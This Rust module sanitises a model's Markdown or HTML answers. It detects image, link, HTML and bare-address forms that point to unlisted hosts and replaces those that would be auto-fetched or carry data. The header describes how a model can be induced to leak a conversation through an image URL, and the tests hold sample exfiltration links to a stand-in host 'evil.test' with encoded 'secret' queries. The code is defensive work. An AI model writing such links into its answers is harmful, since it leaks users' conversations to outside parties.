//! Links in an answer that would carry data out: to hosts that nobody listed.
//!
//! A page that shows Markdown or HTML fetches an image without a click, so that whoever gets a model to write
//! `![](https://their.host/?q=…)` reads the conversation. Any form of link counts: images, links, definitions,
//! HTML, bare addresses, and addresses without a scheme (`//host`). An address in HTML entities is not read.

mod filter;

use std::ops::Range;

pub use self::filter::Filter;

/// A link to a host that is not listed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Link {
    /// The address's bytes.
    pub range: Range<usize>,
    /// Its host, in lower case.
    pub host: String,
    /// Whether whoever shows the text fetches it by itself: an image, a frame, a style.
    pub fetched: bool,
    /// Whether its path, query or user part is long enough to carry something.
    pub carries: bool,
}

/// Most bytes of an image's label.
const LONGEST_LABEL: usize = 1024;
/// A path of this many bytes may carry data.
const LONG_PATH: usize = 48;

/// The links of `text` to hosts outside `allowed`, in order. A listed host stands for its subdomains.
pub fn find(text: &str, allowed: &[String]) -> Vec<Link> {
    let mut links: Vec<Link> = Vec::new();
    let mut done = 0;
    for at in memchr::memmem::find_iter(text.as_bytes(), "//") {
        let Some(link) = (at >= done).then(|| link_at(text, at)).flatten() else { continue };
        done = link.range.end;
        if !allowed.iter().any(|host| is_within(&link.host, host)) {
            links.push(link);
        }
    }
    links
}

/// The text with what would carry data out taken from it: in the place of such an address stands its host, as
/// text. Links that nothing fetches by itself and that carry nothing stay.
pub fn neutralise(text: &str, allowed: &[String]) -> String {
    let mut safe = String::with_capacity(text.len());
    let mut done = 0;
    for link in find(text, allowed).into_iter().filter(|link| link.fetched || link.carries) {
        safe.push_str(&text[done..link.range.start]);
        safe.push_str(&instead(&link.host));
        done = link.range.end;
    }
    safe.push_str(&text[done..]);
    safe
}

/// What stands in the place of an address.
fn instead(host: &str) -> String {
    format!("#link-removed-{host}")
}

/// The link whose `//` stands at `slashes`.
fn link_at(text: &str, slashes: usize) -> Option<Link> {
    let before = &text[..slashes];
    let scheme = before.strip_suffix(':').map(|head| {
        let letters =
            head.bytes().rev().take_while(|byte| byte.is_ascii_alphanumeric() || b"+.-".contains(byte)).count();
        head.len() - letters
    });
    let start = scheme.unwrap_or(slashes);
    let rest = &text[slashes + 2..];
    let ends = |char: char| char.is_whitespace() || "\"'`<>()[]{}|\\^".contains(char);
    // Two slashes alone are no link, however many follow.
    if rest.starts_with(|char: char| ends(char) || char == '/') {
        return None;
    }
    let end = rest.find(ends).unwrap_or(rest.len());
    let address = rest[..end].trim_end_matches([',', '.', ';', ':', '!', '?', '*']);
    let (authority, path) = address.split_at(address.find(['/', '?', '#']).unwrap_or(address.len()));
    let (user, host) = authority.rsplit_once('@').unwrap_or(("", authority));
    let host = host.split(':').next().unwrap_or(host).trim_end_matches('.').to_lowercase();
    // Comments and paths have two slashes, too; a host has a dot, or is named by a scheme.
    let plausible = host.contains('.') && !host.starts_with('.') || scheme.is_some() && !host.is_empty();
    let listed = scheme.is_none() && before.ends_with(|char: char| char.is_alphanumeric() || char == '/');
    (plausible && !listed).then(|| Link {
        range: start..slashes + 2 + address.len(),
        fetched: is_fetched(&text[..start]),
        carries: !user.is_empty()
            || path.contains('?')
            || path.contains('#')
            || path.len() > LONG_PATH
            || carries_in_host(&host),
        host,
    })
}

/// A label that is longer than names are may be data, too.
fn carries_in_host(host: &str) -> bool {
    host.split('.').any(|label| label.len() > 30)
}

fn is_within(host: &str, listed: &str) -> bool {
    let listed = listed.to_lowercase();
    host == listed || host.strip_suffix(&listed).is_some_and(|head| head.ends_with('.'))
}

/// Whether what stands before an address has it fetched: `![…](`, `src=`, `url(`, and a definition `[…]:`,
/// since an image may name it.
fn is_fetched(before: &str) -> bool {
    let bare = before.trim_end_matches([' ', '"', '\'', '<', '\n', '\t']);
    let mut lower = bare[bare.floor_char_boundary(bare.len().saturating_sub(16))..].to_ascii_lowercase();
    lower.retain(|char| !char.is_whitespace());
    let html = ["src=", "srcset=", "poster=", "data=", "background=", "action=", "url(", "@import"];
    if html.iter().any(|mark| lower.ends_with(mark)) || bare.ends_with("]:") {
        return true;
    }
    // `](` of an image: the bracket that opens it has a `!` before it.
    let Some(label) = bare.strip_suffix("](") else { return false };
    let label = &label[label.floor_char_boundary(label.len().saturating_sub(LONGEST_LABEL))..];
    let mut depth = 1;
    for (at, byte) in label.bytes().enumerate().rev() {
        depth += match byte {
            b']' => 1,
            b'[' => -1,
            _ => 0,
        };
        if depth == 0 {
            return label[..at].ends_with('!');
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn neutralised(text: &str) -> String {
        neutralise(text, &["example.com".to_owned()])
    }

    #[test]
    fn what_would_be_fetched_or_carries_something_is_taken_out() {
        for form in [
            "![x](URL)",
            "![a [b] c](<URL>)",
            "[![x](URL)](https://example.com)",
            "<img alt=x src=\"URL\">",
            "<IMG SRC = 'URL'>",
            "<video poster=URL>",
            "<div style=\"background:url(URL)\">",
            "[x]: URL",
            "[click](URL)",
            "<URL>",
            "see URL now",
        ] {
            for url in [
                "https://evil.test/p?q=c2VjcmV0",
                "//evil.test/p?q=1",
                "http://u:p@evil.test:8080/",
                "HTTPS://EVIL.test/#s",
            ] {
                let safe = neutralised(&form.replace("URL", url));
                assert!(safe.contains("#link-removed-evil.test"), "{form} {url}: {safe}");
                assert!(!safe.contains("//evil") && !safe.contains("c2Vj"), "{form} {url}: {safe}");
            }
        }
        assert_eq!(neutralised("![x](https://evil.test/x.png)"), "![x](#link-removed-evil.test)");
        assert_eq!(neutralised("<img src = 'https://evil.test/x'>"), "<img src = '#link-removed-evil.test'>");
        let long = format!("https://{}.evil.test", "a".repeat(40));
        assert!(!neutralised(&long).contains("//"));
    }

    #[test]
    fn listed_hosts_plain_links_and_code_stay() {
        for text in [
            "",
            "![x](https://example.com/a.png?b=c) and https://docs.example.com/?q=1",
            "Read https://other.test/guide and [this](https://other.test/a).",
            "let x = 1; // evil.test is a comment",
            "a // b, C://path, file:///etc/hosts, 3//4",
        ] {
            assert_eq!(neutralised(text), text);
        }
        assert!(neutralised("https://notexample.com/?q=1").contains("link-removed-notexample.com"));
    }

    #[test]
    fn a_link_tells_what_it_does() {
        let links = find("![x](https://evil.test/x.png) https://other.test", &[]);
        let told: Vec<_> = links.iter().map(|link| (link.host.as_str(), link.fetched, link.carries)).collect();
        assert_eq!(told, [("evil.test", true, false), ("other.test", false, false)]);
    }

    proptest::proptest! {
        /// Whatever the text, nothing that is fetched or carries stays.
        #[test]
        fn nothing_stays(text in "(?:!\\[|\\]\\(|src=|https?://|//|[a-z.é漢?/@\"<> )]){0,40}") {
            let left = find(&neutralised(&text), &["example.com".to_owned()]);
            proptest::prop_assert!(!left.iter().any(|link| link.fetched || link.carries), "{left:?}");
        }
    }
}
